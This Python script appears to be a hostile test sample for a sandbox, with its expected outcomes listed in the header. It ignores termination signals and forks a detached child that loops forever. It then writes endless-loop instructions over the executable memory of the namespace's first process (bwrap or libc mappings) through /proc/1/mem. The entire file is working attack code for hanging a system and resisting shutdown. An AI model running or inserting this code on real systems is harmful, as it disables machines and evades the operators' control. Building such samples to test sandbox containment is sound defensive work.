# the first process of its namespace overwritten where it can be, then deaf children
# ends: refused timeout killed crashed
# ruff: noqa
import os, signal, time

for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
if os.fork() == 0:
    os.setsid()
    while True:
        time.sleep(1)
try:
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "r+b", buffering=0) as memory:
        for line in maps:
            if " r-xp " in line and ("bwrap" in line or "libc" in line):
                start, end = (int(word, 16) for word in line.split()[0].split("-"))
                memory.seek(start)
                memory.write(b"\xeb\xfe" * ((end - start) // 2))  # loops that never end, in place of its code
except OSError as error:
    print(error)
